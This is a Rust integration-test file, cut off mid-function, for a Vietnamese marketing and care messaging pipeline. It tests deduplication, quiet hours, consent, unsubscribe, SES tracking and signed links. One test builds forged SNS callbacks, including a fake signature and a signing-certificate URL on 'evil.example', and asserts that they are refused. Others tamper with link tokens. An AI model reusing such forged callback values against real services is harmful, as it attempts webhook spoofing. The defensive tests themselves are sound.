//! Messaging end to end on the embedded adapters: templates through their routes, sends
//! through the `sends` queue and the same consumer the `message-sender` function runs, the
//! outbox as the channel, SES events through the `engagement-tracker` handler, and the public
//! tracking routes. Each test proves one promise of the pipeline.

use std::sync::Arc;

use axum::body::Body;
use axum::http::{Request, header};
use chrono::{Duration, TimeZone, Utc};
use nhip_core::auth::Role;
use nhip_messaging::model::{Cause, CauseKind, SendPurpose, SendRequest, Status, Target};
use nhip_messaging::pipeline;
use serde_json::{Value, json};

use crate::support::{Answer, Api, drain, fixture_path, json_request, send_to, wraps_api};

const LINK_SECRET: &[u8] = b"messaging-tests-link-secret-of-32-bytes";
const SES_TOPIC: &str = "arn:aws:sns:ap-southeast-1:123456789012:nhip-ses-events";
const INBOUND_SECRET: &[u8] = b"messaging-tests-inbound-sms-secret-32b";

/// The API harness with messaging's secrets and topic set, and messaging's own steps.
struct Ctx {
    api: Api,
}

wraps_api!(Ctx);

impl Ctx {
    fn new() -> Self {
        let mut settings = nhip_core::Settings::default();
        settings.messaging.link_secret = Some(LINK_SECRET.to_vec());
        settings.messaging.sms_inbound_secret = Some(INBOUND_SECRET.to_vec());
        settings.messaging.public_url = "https://nhip.example".into();
        settings.messaging.ses_events_topic_arn = Some(SES_TOPIC.into());
        Self {
            api: Api::with_settings(settings),
        }
    }

    /// A customer with a phone, an e-mail and the given consents (`"sms:marketing"`, …).
    async fn customer(&self, phone: &str, email: &str, consents: &[&str]) -> String {
        self.create_id(json!({
            "full_name": "Nguyễn <b>Văn</b> Minh",
            "gender": "male",
            "phones": [phone],
            "emails": [email],
            "source": "assigned",
            "consents": consents,
        }))
        .await
    }

    async fn template(&self, code: &str, content: Value) {
        let (status, body) = self
            .admin_call(
                "POST",
                "/v1/templates",
                Some(json!({"code": code, "name": code, "content": content, "publish": true})),
            )
            .await;
        assert_eq!(status, 201, "{body}");
    }

    async fn message(&self, id: &str) -> nhip_messaging::model::Message {
        pipeline::load(&self.deps, id)
            .await
            .unwrap()
            .expect("the message")
    }

    async fn sent_for(&self, id: &str) -> Vec<nhip_local::OutboxEntry> {
        self.outbox().for_message(id).await.unwrap()
    }

    /// Processes an SMS send and answers the token of the first tracked link in its text.
    async fn first_link_token(&self, send: &SendRequest) -> String {
        pipeline::process(&self.deps, send).await.unwrap();
        let sent = self.sent_for(&send.message_id()).await;
        let nhip_ports::channel::Outgoing::Sms(text) = &sent[0].envelope.outgoing else {
            panic!("an SMS");
        };
        let start = text.text.find("/t/").unwrap() + 3;
        text.text[start..]
            .chars()
            .take_while(|c| !c.is_whitespace())
            .collect()
    }
}

fn request(
    key: &str,
    customer: &str,
    channel: &str,
    template: &str,
    purpose: SendPurpose,
) -> SendRequest {
    SendRequest {
        idempotency_key: key.into(),
        customer_id: customer.into(),
        targets: vec![Target {
            channel: serde_json::from_value(json!(channel)).unwrap(),
            template: template.into(),
            version: None,
        }],
        purpose,
        cause: Cause {
            kind: CauseKind::Journey,
            id: key.into(),
            actor: None,
        },
        campaign: None,
        data: Default::default(),
        system: None,
        requested_at: Utc::now(),
        guard: None,
    }
}

fn sms(text: &str) -> Value {
    json!({"channel": "sms", "text": text})
}

fn email() -> Value {
    json!({
        "channel": "email",
        "subject": "{{ customer.salutation }} ơi, ưu đãi trả góp 0%",
        "html": "<p>Kính gửi {{ customer.full_name }},</p><p>Hạn mức {{ 30000000 | vnd }}.</p>",
        "text": "Kính gửi {{ customer.full_name }}, hạn mức {{ 30000000 | vnd }}.",
    })
}

/// 22:30 on Monday 23 November 2026 in Viet Nam.
fn at_2230_vn() -> chrono::DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 23, 15, 30, 0).unwrap()
}

#[tokio::test]
async fn a_send_request_delivered_once_twice_or_three_times_sends_exactly_once() {
    let ctx = Ctx::new();
    let customer = ctx.customer("0912345678", "minh@example.vn", &[]).await;
    ctx.template(
        "nhac-tra-gop",
        sms("Nhắc {{ customer.salutation }}: kỳ trả góp sắp đến hạn."),
    )
    .await;
    for deliveries in 1..=3 {
        let send = request(
            &format!("reminder#{deliveries}"),
            &customer,
            "sms",
            "nhac-tra-gop",
            SendPurpose::Care,
        );
        // The same request on the queue `deliveries` times, drained together (as SQS at-least-
        // once delivery and a retried producer would do).
        for _ in 0..deliveries {
            pipeline::enqueue(&ctx.deps, std::slice::from_ref(&send))
                .await
                .unwrap();
        }
        assert_eq!(ctx.drain("sends").await, deliveries);
        // And once more straight through the pipeline, concurrently.
        let again =
            futures::future::join_all((0..deliveries).map(|_| pipeline::process(&ctx.deps, &send)))
                .await;
        assert!(
            again.iter().all(|o| o.as_ref().is_ok_and(|o| o.duplicate)),
            "{again:?}"
        );
        let sent = ctx.sent_for(&send.message_id()).await;
        assert_eq!(
            sent.len(),
            1,
            "{deliveries} deliveries sent {} copies: {:?}",
            sent.len(),
            ctx.message(&send.message_id()).await
        );
        assert_eq!(ctx.message(&send.message_id()).await.status, Status::Sent);
    }
}

#[tokio::test]
async fn racing_consumers_of_one_request_send_it_once() {
    let ctx = Ctx::new();
    let customer = ctx.customer("0912345679", "lan@example.vn", &[]).await;
    ctx.template("sao-ke", sms("Sao kê tháng đã sẵn sàng."))
        .await;
    let send = request("statement#1", &customer, "sms", "sao-ke", SendPurpose::Care);
    let outcomes =
        futures::future::join_all((0..3).map(|_| pipeline::process(&ctx.deps, &send))).await;
    let winners = outcomes
        .iter()
        .filter(|o| o.as_ref().is_ok_and(|o| !o.duplicate))
        .count();
    assert!(winners <= 1, "{outcomes:?}");
    // Losers that saw the claim mid-flight retry later; whatever happens, one copy left.
    for _ in 0..3 {
        let _ = pipeline::process(&ctx.deps, &send).await;
    }
    assert_eq!(ctx.sent_for(&send.message_id()).await.len(), 1);
}

#[tokio::test]
async fn a_marketing_sms_at_2230_goes_at_0700_and_a_care_reminder_is_not_held() {
    let ctx = Ctx::new();
    ctx.clock().advance_to(at_2230_vn());
    let customer = ctx
        .customer("0987654321", "hoa@example.vn", &["sms:marketing"])
        .await;
    ctx.template(
        "uu-dai-sms",
        sms("Ưu đãi trả góp 0% cho {{ customer.salutation }}: https://abc.vn/tra-gop"),
    )
    .await;
    ctx.template(
        "nhac-han",
        sms("Kỳ trả góp của {{ customer.salutation }} đến hạn ngày mai."),
    )
    .await;

    let marketing = request(
        "promo#1",
        &customer,
        "sms",
        "uu-dai-sms",
        SendPurpose::Marketing,
    );
    let care = request("due#1", &customer, "sms", "nhac-han", SendPurpose::Care);
    pipeline::enqueue(&ctx.deps, &[marketing.clone(), care.clone()])
        .await
        .unwrap();
    ctx.drain("sends").await;

    let held = ctx.message(&marketing.message_id()).await;
    assert_eq!(held.status, Status::Deferred);
    assert_eq!(held.reason.as_deref(), Some("quiet_hours"));
    let seven_am = Utc.with_ymd_and_hms(2026, 11, 24, 0, 0, 0).unwrap();
    assert_eq!(held.defer_until, Some(seven_am));
    assert!(ctx.sent_for(&marketing.message_id()).await.is_empty());
    let reminder = ctx.sent_for(&care.message_id()).await;
    assert_eq!(reminder.len(), 1, "the care reminder goes at 22:30");
    assert_eq!(reminder[0].sent_at, at_2230_vn());

    // 06:59: still held. 07:00: the scheduler releases it and it goes.
    ctx.clock().advance_to(seven_am - Duration::minutes(1));
    nhip_api::tick::tick(&ctx.deps).await.unwrap();
    ctx.drain("sends").await;
    assert!(ctx.sent_for(&marketing.message_id()).await.is_empty());
    ctx.clock().advance_to(seven_am);
    nhip_api::tick::tick(&ctx.deps).await.unwrap();
    ctx.drain("sends").await;
    let sent = ctx.sent_for(&marketing.message_id()).await;
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].sent_at, seven_am, "07:00 in Viet Nam");
    let nhip_ports::channel::Outgoing::Sms(text) = &sent[0].envelope.outgoing else {
        panic!("an SMS");
    };
    assert!(text.text.starts_with("[QC] "), "{}", text.text);
    assert!(
        text.text.ends_with("Tu choi QC soan TC gui 8088"),
        "{}",
        text.text
    );
    assert!(
        text.text.contains("https://nhip.example/t/"),
        "the link is tracked: {}",
        text.text
    );
    assert_eq!(text.kind, nhip_ports::channel::SmsKind::Promotional);
    assert!(
        ctx.timeline_types(&customer)
            .await
            .contains(&"message.deferred".to_owned())
    );
}

#[tokio::test]
async fn the_fourth_marketing_email_to_an_address_within_24_hours_is_capped_whatever_sent_it() {
    let ctx = Ctx::new();
    let customer = ctx
        .customer("0912000111", "tuan@example.vn", &["email:marketing"])
        .await;
    ctx.template("uu-dai-email", email()).await;
    let mut statuses = Vec::new();
    for (i, kind) in [
        CauseKind::Journey,
        CauseKind::Journey,
        CauseKind::Staff,
        CauseKind::Campaign,
    ]
    .into_iter()
    .enumerate()
    {
        let mut send = request(
            &format!("ad#{i}"),
            &customer,
            "email",
            "uu-dai-email",
            SendPurpose::Marketing,
        );
        send.cause.kind = kind;
        send.cause.id = format!("cause-{i}");
        statuses.push(pipeline::process(&ctx.deps, &send).await.unwrap().status);
        ctx.clock().advance(Duration::hours(2));
    }
    assert_eq!(
        statuses,
        [Status::Sent, Status::Sent, Status::Sent, Status::Capped]
    );
    let capped = ctx.message(&pipeline_id("ad#3")).await;
    assert_eq!(capped.reason.as_deref(), Some("daily_limit"));
    // A care e-mail is not advertising: not capped.
    ctx.template("thong-bao", json!({"channel": "email", "subject": "Thông báo", "html": "<p>Dịch vụ</p>", "text": "Dịch vụ"})).await;
    let care = request(
        "notice#1",
        &customer,
        "email",
        "thong-bao",
        SendPurpose::Care,
    );
    assert_eq!(
        pipeline::process(&ctx.deps, &care).await.unwrap().status,
        Status::Sent
    );
    // 24 hours after the first, a place frees.
    ctx.clock()
        .advance_to(ctx.deps.clock.now() + Duration::hours(17));
    let later = request(
        "ad#later",
        &customer,
        "email",
        "uu-dai-email",
        SendPurpose::Marketing,
    );
    assert_eq!(
        pipeline::process(&ctx.deps, &later).await.unwrap().status,
        Status::Sent
    );
    // Advertising e-mail carries the label, the opt-out and one-click unsubscribe headers.
    let sent = ctx.sent_for(&pipeline_id("ad#0")).await;
    let nhip_ports::channel::Outgoing::Email(mail) = &sent[0].envelope.outgoing else {
        panic!("an e-mail");
    };
    assert!(
        mail.subject.starts_with("[QC] Anh Minh ơi"),
        "{}",
        mail.subject
    );
    assert!(
        mail.html.contains("Nguyễn &lt;b&gt;Văn&lt;/b&gt; Minh"),
        "customer data is escaped: {}",
        mail.html
    );
    assert!(mail.html.contains("30.000.000 ₫"));
    assert!(mail.text.contains("https://nhip.example/u/"));
    assert!(
        mail.headers
            .iter()
            .any(|(k, v)| k == "List-Unsubscribe-Post" && v == "List-Unsubscribe=One-Click")
    );
}

fn pipeline_id(key: &str) -> String {
    nhip_messaging::model::message_id_for(key)
}

#[tokio::test]
async fn a_number_on_the_do_not_advertise_list_gets_no_advertising_but_still_gets_care() {
    let ctx = Ctx::new();
    let customer = ctx
        .customer("0933444555", "an@example.vn", &["sms:marketing"])
        .await;
    let (status, body) = ctx
        .admin_call(
            "POST",
            "/v1/do-not-advertise",
            Some(json!({"numbers": ["+84 933 444 555", "12345"], "source": "national_dnc"})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["added"], 1);
    assert!(body["invalid"]["1"].is_string());
    ctx.template("qc", sms("Ưu đãi mới")).await;
    ctx.template("cskh", sms("Cảm ơn Quý khách")).await;
    let ad = pipeline::process(
        &ctx.deps,
        &request("dnc#ad", &customer, "sms", "qc", SendPurpose::Marketing),
    )
    .await
    .unwrap();
    assert_eq!(
        (ad.status, ad.reason.as_deref()),
        (Status::Suppressed, Some("do_not_advertise"))
    );
    let care = pipeline::process(
        &ctx.deps,
        &request("dnc#care", &customer, "sms", "cskh", SendPurpose::Care),
    )
    .await
    .unwrap();
    assert_eq!(care.status, Status::Sent);
    assert!(ctx.sent_for(&ad.message_id).await.is_empty());
}

#[tokio::test]
async fn without_consent_nothing_is_sent_and_the_reason_is_recorded() {
    let ctx = Ctx::new();
    let customer = ctx
        .customer("0944555666", "binh@example.vn", &["email:marketing"])
        .await;
    ctx.template("qc-sms", sms("Ưu đãi")).await;
    let outcome = pipeline::process(
        &ctx.deps,
        &request("nc#1", &customer, "sms", "qc-sms", SendPurpose::Marketing),
    )
    .await
    .unwrap();
    assert_eq!(outcome.status, Status::NoConsent);
    assert_eq!(outcome.reason.as_deref(), Some("no_marketing_consent"));
    assert!(ctx.sent_for(&outcome.message_id).await.is_empty());
    assert!(
        ctx.timeline_types(&customer)
            .await
            .contains(&"message.no_consent".to_owned())
    );
    let (_, stats) = ctx
        .admin_call("GET", "/v1/templates/qc-sms/stats", None)
        .await;
    assert_eq!(stats["counts"]["no_consent"], 1);
    // Preference order: the e-mail has consent, so ZNS-then-e-mail falls through to e-mail.
    ctx.template("qc-email", email()).await;
    let mut fallback = request("nc#2", &customer, "sms", "qc-sms", SendPurpose::Marketing);
    fallback.targets.push(Target {
        channel: nhip_messaging::model::MessageChannel::Email,
        template: "qc-email".into(),
        version: None,
    });
    let outcome = pipeline::process(&ctx.deps, &fallback).await.unwrap();
    assert_eq!(outcome.status, Status::Sent);
    assert_eq!(
        ctx.message(&outcome.message_id).await.channel,
        Some(nhip_messaging::model::MessageChannel::Email)
    );
}

/// An SES fixture with its message id replaced by the one the outbox gave.
fn ses_fixture(name: &str, provider_id: &str) -> aws_lambda_events::sns::SnsEvent {
    let text =
        std::fs::read_to_string(fixture_path(&format!("engagement-tracker/{name}.json"))).unwrap();
    serde_json::from_str(&text.replace(
        "0100019ab3c4d5e6-nhip-fixture-0000-000000000000-000000",
        provider_id,
    ))
    .unwrap()
}

#[tokio::test]
async fn ses_events_reach_the_timeline_and_a_hard_bounce_suppresses_later_sends() {
    let ctx = Ctx::new();
    let customer = ctx
        .customer("0965666777", "khachhang@example.com", &[])
        .await;
    ctx.template(
        "sao-ke-email",
        json!({"channel": "email", "subject": "Sao kê", "html": "<p>Sao kê</p>", "text": "Sao kê"}),
    )
    .await;
    let first = request(
        "stmt#1",
        &customer,
        "email",
        "sao-ke-email",
        SendPurpose::Care,
    );
    pipeline::process(&ctx.deps, &first).await.unwrap();
    let provider_id = ctx.sent_for(&first.message_id()).await[0]
        .provider_id
        .clone();
    for name in [
        "ses-send",
        "ses-delivery",
        "ses-open",
        "ses-click",
        "ses-open",
    ] {
        nhip_messaging::tracker::handle_sns(&ctx.deps, ses_fixture(name, &provider_id))
            .await
            .unwrap();
    }
    let types = ctx.timeline_types(&customer).await;
    for expected in [
        "message.sent",
        "message.delivered",
        "message.opened",
        "message.clicked",
    ] {
        assert!(
            types.contains(&expected.to_owned()),
            "{expected} in {types:?}"
        );
    }
    assert_eq!(
        types.iter().filter(|t| *t == "message.opened").count(),
        1,
        "a redelivered notification is kept once"
    );
    let (_, stats) = ctx
        .admin_call("GET", "/v1/templates/sao-ke-email/stats", None)
        .await;
    assert_eq!(
        (
            stats["counts"]["delivered"].as_u64(),
            stats["counts"]["opened"].as_u64()
        ),
        (Some(1), Some(1))
    );

    let report = nhip_messaging::tracker::handle_sns(
        &ctx.deps,
        ses_fixture("ses-bounce-permanent", &provider_id),
    )
    .await
    .unwrap();
    assert_eq!(report.recorded, 1);
    let later = pipeline::process(
        &ctx.deps,
        &request(
            "stmt#2",
            &customer,
            "email",
            "sao-ke-email",
            SendPurpose::Care,
        ),
    )
    .await
    .unwrap();
    assert_eq!(
        (later.status, later.reason.as_deref()),
        (Status::Suppressed, Some("hard_bounce"))
    );
    let (status, _) = ctx
        .admin_call("GET", "/v1/suppressions/email/khachhang@example.com", None)
        .await;
    assert_eq!(status, 200);
}

#[tokio::test]
async fn a_forged_or_unsigned_sns_callback_is_refused_and_records_nothing() {
    let ctx = Ctx::new();
    let customer = ctx
        .customer("0966777888", "khachhang@example.com", &[])
        .await;
    ctx.template(
        "tb",
        json!({"channel": "email", "subject": "Thông báo", "html": "<p>x</p>", "text": "x"}),
    )
    .await;
    let send = request("forged#1", &customer, "email", "tb", SendPurpose::Care);
    pipeline::process(&ctx.deps, &send).await.unwrap();
    let provider_id = ctx.sent_for(&send.message_id()).await[0]
        .provider_id
        .clone();
    let event = ses_fixture("ses-bounce-permanent", &provider_id);
    let sns = &event.records[0].sns;
    let mut body = json!({
        "Type": "Notification",
        "MessageId": sns.message_id,
        "TopicArn": sns.topic_arn,
        "Message": sns.message,
        "Timestamp": sns.timestamp,
        "SignatureVersion": "1",
        "Signature": "Zm9yZ2Vk",
        "SigningCertURL": "https://sns.ap-southeast-1.amazonaws.com/SimpleNotificationService-0000.pem",
    });
    let post = |body: &Value| {
        Request::builder()
            .method("POST")
            .uri("/v1/tracking/ses")
            .header(header::CONTENT_TYPE, "text/plain; charset=UTF-8")
            .body(Body::from(body.to_string()))
            .unwrap()
    };
    let Answer { status, .. } = ctx.send(post(&body)).await;
    assert_eq!(status, 403, "forged signature");
    // Signed by SNS for somebody else's topic is still not ours.
    let mut elsewhere = body.clone();
    elsewhere["TopicArn"] = json!("arn:aws:sns:ap-southeast-1:999999999999:not-nhip");
    let Answer { status, .. } = ctx.send(post(&elsewhere)).await;
    assert_eq!(status, 403, "another account's topic");
    body.as_object_mut().unwrap().remove("Signature");
    let Answer { status, .. } = ctx.send(post(&body)).await;
    assert_eq!(status, 403, "unsigned");
    body["Signature"] = json!("Zm9yZ2Vk");
    body["SigningCertURL"] =
        json!("https://evil.example/sns.ap-southeast-1.amazonaws.com/cert.pem");
    let Answer { status, .. } = ctx.send(post(&body)).await;
    assert_eq!(status, 403, "certificate from elsewhere");
    // Nothing recorded: the address is not suppressed and the message has no history.
    let message = ctx.message(&send.message_id()).await;
    assert!(message.engagement.is_empty());
    let (status, _) = ctx
        .admin_call("GET", "/v1/suppressions/email/khachhang@example.com", None)
        .await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn a_tracked_link_click_is_recorded_once_and_redirects_only_to_the_original_url() {
    let ctx = Ctx::new();
    let customer = ctx.customer("0977888999", "cuong@example.vn", &[]).await;
    ctx.template(
        "link-sms",
        sms("Xem lịch trả góp: https://abc.vn/lich?ky=3 nhé"),
    )
    .await;
    let send = request("link#1", &customer, "sms", "link-sms", SendPurpose::Care);
    let token = ctx.first_link_token(&send).await;
    let get = |path: String| json_request("GET", &path, None, None);
    for _ in 0..3 {
        let Answer {
            status, headers, ..
        } = ctx.send(get(format!("/t/{token}"))).await;
        assert_eq!(status, 303, "a redirect");
        assert_eq!(headers[header::LOCATION], "https://abc.vn/lich?ky=3");
    }
    let message = ctx.message(&send.message_id()).await;
    assert!(message.engagement.contains_key("clicked"));
    let clicks = ctx
        .timeline_types(&customer)
        .await
        .into_iter()
        .filter(|t| t == "message.clicked")
        .count();
    assert_eq!(clicks, 1, "three clicks, one record");
    let (_, stats) = ctx
        .admin_call("GET", "/v1/templates/link-sms/stats", None)
        .await;
    assert_eq!(stats["counts"]["clicked"], 1);
    // A tampered token, or one pointing at another link index, leads nowhere.
    let mut forged = token.clone().into_bytes();
    let last = forged.len() - 1;
    forged[last] = if forged[last] == b'A' { b'B' } else { b'A' };
    let Answer {
        status, headers, ..
    } = ctx
        .send(get(format!("/t/{}", String::from_utf8(forged).unwrap())))
        .await;
    assert_eq!(status, 404);
    assert!(headers.get(header::LOCATION).is_none());
    let other = nhip_messaging::links::link_token(LINK_SECRET, &send.message_id(), 7);
    let Answer { status, .. } = ctx.send(get(format!("/t/{other}"))).await;
    assert_eq!(status, 404, "no such link in the message");
}

/// A rotation of the link-signing secret: links and unsubscribe pages of messages sent before
/// it keep working while the old secret is the previous one, and only then.
#[tokio::test]
async fn links_signed_before_a_rotation_resolve_while_the_old_secret_is_the_previous_one() {
    const NEW_SECRET: &[u8] = b"messaging-tests-link-secret-after-rotation";
    let mut ctx = Ctx::new();
    let customer = ctx.customer("0977888111", "lan@example.vn", &[]).await;
    ctx.template("rotate-sms", sms("Lịch trả góp: https://abc.vn/lich nhé"))
        .await;
    let send = request(
        "rotate#1",
        &customer,
        "sms",
        "rotate-sms",
        SendPurpose::Care,
    );
    let token = ctx.first_link_token(&send).await;
    let unsubscribe = nhip_messaging::links::unsubscribe_token(LINK_SECRET, &send.message_id());
    let before = (*ctx.api.deps).clone();
    let rotated = |previous: Option<&[u8]>| {
        let mut deps = before.clone();
        deps.settings.messaging.link_secret = Some(NEW_SECRET.to_vec());
        deps.settings.messaging.link_secret_previous = previous.map(<[u8]>::to_vec);
        Arc::new(deps)
    };
    let get = |path: String| json_request("GET", &path, None, None);

    // First step of a rotation: every function accepts the next secret before any signs
    // with it.
    let fresh = nhip_messaging::links::link_token(NEW_SECRET, &send.message_id(), 0);
    let Answer { status, .. } = ctx.send(get(format!("/t/{fresh}"))).await;
    assert_eq!(status, 404, "not yet known");
    let mut pending = before.clone();
    pending.settings.messaging.link_secret_next = Some(NEW_SECRET.to_vec());
    ctx.api.deps = Arc::new(pending);
    let Answer { status, .. } = ctx.send(get(format!("/t/{fresh}"))).await;
    assert_eq!(status, 303, "signed with the next secret");
    let Answer { status, .. } = ctx.send(get(format!("/t/{token}"))).await;
    assert_eq!(status, 303, "the current secret still signs");

    ctx.api.deps = rotated(Some(LINK_SECRET));
    let Answer {
        status, headers, ..
    } = ctx.send(get(format!("/t/{token}"))).await;
    assert_eq!(status, 303, "signed with the previous secret");
    assert_eq!(headers[header::LOCATION], "https://abc.vn/lich");
    let Answer { status, .. } = ctx.send(get(format!("/u/{unsubscribe}"))).await;
    assert_eq!(status, 200);
    // New links are signed with the new secret alone.
    let Answer { status, .. } = ctx.send(get(format!("/t/{fresh}"))).await;
    assert_eq!(status, 303);

    ctx.api.deps = rotated(None);
    let Answer {
        status, headers, ..
    } = ctx.send(get(format!("/t/{token}"))).await;
    assert_eq!(status, 404, "the old secret is no longer accepted");
    assert!(headers.get(header::LOCATION).is_none());
    let Answer { status, .. } = ctx.send(get(format!("/u/{unsubscribe}"))).await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn an_unsubscribe_stops_advertising_at_once_and_confirms_exactly_once() {
    let ctx = Ctx::new();
    let customer = ctx
        .customer("0988111222", "dung@example.vn", &["email:marketing"])
        .await;
    ctx.template("ban-tin", email()).await;
    let first = request(
        "news#1",
        &customer,
        "email",
        "ban-tin",
        SendPurpose::Marketing,
    );
    assert_eq!(
        pipeline::process(&ctx.deps, &first).await.unwrap().status,
        Status::Sent
    );
    let sent = ctx.sent_for(&first.message_id()).await;
    let nhip_ports::channel::Outgoing::Email(mail) = &sent[0].envelope.outgoing else {
        panic!("an e-mail");
    };
    let (_, url) = mail
        .headers
        .iter()
        .find(|(k, _)| k == "List-Unsubscribe")
        .unwrap();
    let path = url
        .trim_matches(['<', '>'])
        .trim_start_matches("https://nhip.example")
        .to_owned();
    // Opening the page changes nothing; the one-click POST (twice) refuses once.
    let Answer {
        status,
        bytes: page,
        ..
    } = ctx.send(json_request("GET", &path, None, None)).await;
    assert_eq!(status, 200);
    assert!(
        String::from_utf8(page)
            .unwrap()
            .contains("Từ chối nhận quảng cáo")
    );
    for _ in 0..2 {
        let Answer { status, .. } = ctx
            .send(
                Request::builder()
                    .method("POST")
                    .uri(&path)
                    .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                    .body(Body::from("List-Unsubscribe=One-Click"))
                    .unwrap(),
            )
            .await;
        assert_eq!(status, 200);
    }
    ctx.drain("sends").await;
    let confirmations: Vec<_> = ctx.outbox()
        .list(100, None)
        .await
        .unwrap()
        .into_iter()
        .filter(|e| matches!(&e.envelope.outgoing, nhip_ports::channel::Outgoing::Email(m) if m.subject.starts_with("Xác nhận từ chối")))
        .collect();
    assert_eq!(confirmations.len(), 1, "exactly one confirmation");
    let nhip_ports::channel::Outgoing::Email(confirmation) = &confirmations[0].envelope.outgoing
    else {
        unreachable!()
    };
    assert!(
        !confirmation.subject.contains("[QC]")
            && confirmation.text.contains("09:00 ngày 23/11/2026"),
        "{}",
        confirmation.text
    );
    let next = pipeline::process(
        &ctx.deps,
        &request(
            "news#2",
            &customer,
            "email",
            "ban-tin",
            SendPurpose::Marketing,
        ),
    )
    .await
    .unwrap();
    assert_eq!(next.status, Status::NoConsent);
}

#[tokio::test]
async fn a_refusal_reply_by_sms_stops_sms_advertising() {
    let ctx = Ctx::new();
    let customer = ctx
        .customer("0901234567", "em@example.vn", &["sms:marketing"])
        .await;
    let body = json!({"id": "in-1", "from": "0901234567", "text": " Tu chối "}).to_string();
    let now = ctx.deps.clock.now();
    let signature = nhip_core::webhook::sign(
        INBOUND_SECRET,
        &now.timestamp().to_string(),
        body.as_bytes(),
    );
    let Answer { status, bytes, .. } = ctx
        .send(
            Request::builder()
                .method("POST")
                .uri("/v1/tracking/sms-inbound")
                .header(header::CONTENT_TYPE, "application/json")
                .header("x-nhip-timestamp", now.timestamp().to_string())
                .header("x-nhip-signature", signature)
                .body(Body::from(body))
                .unwrap(),
        )
        .await;
    let answer: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(
        (status, &answer["outcome"]),
        (200, &json!("stopped")),
        "{answer}"
    );
    ctx.template("qc-x", sms("Ưu đãi")).await;
    let outcome = pipeline::process(
        &ctx.deps,
        &request(
            "after-refusal",
            &customer,
            "sms",
            "qc-x",
            SendPurpose::Marketing,
        ),
    )
    .await
    .unwrap();
    assert_eq!(outcome.status, Status::NoConsent);
    assert!(
        ctx.timeline_types(&customer)
            .await
            .contains(&"consent.refused".to_owned())
    );
}

#[tokio::test]
async fn templates_are_checked_at_save_and_previewed_for_a_customer() {
    let ctx = Ctx::new();
    let (status, body) = ctx
        .admin_call(
            "POST",
            "/v1/templates",
            Some(json!({"code": "loi", "name": "Lỗi", "content": sms("Chào {{ khach.ten }}")})),
        )
        .await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(body["error"]["code"], "template_invalid");
    assert!(
        body["error"]["fields"]["content.text"]
            .as_str()
            .unwrap()
            .contains("khach"),
        "{body}"
    );
    let (status, body) = ctx
        .admin_call(
            "POST",
            "/v1/templates",
            Some(json!({"code": "hong", "name": "Hỏng", "content": sms("Chào {% if %}")})),
        )
        .await;
    assert_eq!(status, 422, "{body}");

    let customer = ctx.customer("0912888777", "giang@example.vn", &[]).await;
    ctx.template("nhac", sms("{{ customer.salutation }} ơi, kỳ {{ holding.ky }} là {{ holding.so_tien | vnd }}, hạn {{ holding.han | date_vn }}.")).await;
    let (status, preview) = ctx
        .admin_call(
            "POST",
            "/v1/templates/nhac/versions/1/preview",
            Some(json!({"customer_id": customer, "data": {"holding": {"ky": 3, "so_tien": 2500000, "han": "2026-12-05"}}})),
        )
        .await;
    assert_eq!(status, 200, "{preview}");
    assert_eq!(
        preview["rendered"]["text"],
        "Anh Minh ơi, kỳ 3 là 2.500.000 ₫, hạn 05/12/2026."
    );
    assert_eq!(preview["sms_segments"]["encoding"], "ucs2");
    // A send whose data lacks a field the template needs fails clearly, and sends nothing.
    let outcome = pipeline::process(
        &ctx.deps,
        &request("nhac#1", &customer, "sms", "nhac", SendPurpose::Care),
    )
    .await
    .unwrap();
    assert_eq!(
        (outcome.status, outcome.reason.as_deref()),
        (Status::Failed, Some("render_failed"))
    );
    assert!(ctx.sent_for(&outcome.message_id).await.is_empty());
    // Versions: a new one is published and used; only admins write.
    let (_, current) = ctx.admin_call("GET", "/v1/templates/nhac", None).await;
    let (status, created) = ctx
        .admin_call("POST", "/v1/templates/nhac/versions", Some(json!({"version": current["version"], "content": sms("Nhắc kỳ trả góp."), "publish": true})))
        .await;
    assert_eq!(
        (status, created["number"].as_u64()),
        (201, Some(2)),
        "{created}"
    );
    let outcome = pipeline::process(
        &ctx.deps,
        &request("nhac#2", &customer, "sms", "nhac", SendPurpose::Care),
    )
    .await
    .unwrap();
    assert_eq!(outcome.status, Status::Sent);
    assert_eq!(
        ctx.message(&outcome.message_id).await.template_version,
        Some(2)
    );
    let consultant = ctx.token("c1", Role::Consultant, None);
    let (status, _) = ctx
        .call(
            "POST",
            "/v1/templates",
            Some(&consultant),
            Some(json!({"code": "x1", "name": "x", "content": sms("x")})),
        )
        .await;
    assert_eq!(status, 403);
}

#[tokio::test]
async fn a_campaign_sends_through_the_pipeline_and_reports_per_message() {
    let ctx = Ctx::new();
    let with = ctx
        .customer("0912111222", "a@example.vn", &["email:marketing"])
        .await;
    let without = ctx.customer("0912111333", "b@example.vn", &[]).await;
    ctx.template("cmp-email", email()).await;
    let (status, campaign) = ctx
        .admin_call(
            "POST",
            "/v1/campaigns",
            Some(json!({"name": "Ưu đãi tháng 12", "targets": [{"channel": "email", "template": "cmp-email"}], "purpose": "marketing", "filters": {"source": "assigned"}})),
        )
        .await;
    assert_eq!(status, 202, "{campaign}");
    assert_eq!(campaign["queued"], 2);
    ctx.drain("sends").await;
    let (_, report) = ctx
        .admin_call(
            "GET",
            &format!("/v1/campaigns/{}", campaign["id"].as_str().unwrap()),
            None,
        )
        .await;
    assert_eq!(report["stats"]["counts"]["sent"], 1, "{report}");
    assert_eq!(report["stats"]["counts"]["no_consent"], 1, "{report}");
    let by_customer = |id: &str| {
        report["messages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|m| m["customer_id"] == id)
            .unwrap()["status"]
            .clone()
    };
    assert_eq!(by_customer(&with), "sent");
    assert_eq!(by_customer(&without), "no_consent");
}

#[tokio::test]
async fn a_campaign_refuses_unknown_filter_keys_and_an_implicit_everyone_and_previews_its_count() {
    let ctx = Ctx::new();
    ctx.template("cmp-email", email()).await;
    let mut customers = Vec::new();
    for i in 0..22 {
        customers.push(
            ctx.customer(
                &format!("09121{i:05}"),
                &format!("kh{i}@example.vn"),
                &["email:marketing"],
            )
            .await,
        );
    }
    let targets = json!([{"channel": "email", "template": "cmp-email"}]);
    let campaign = |extra: Value| {
        let mut body =
            json!({"name": "Ưu đãi tháng 12", "targets": targets, "purpose": "marketing"});
        body.as_object_mut()
            .unwrap()
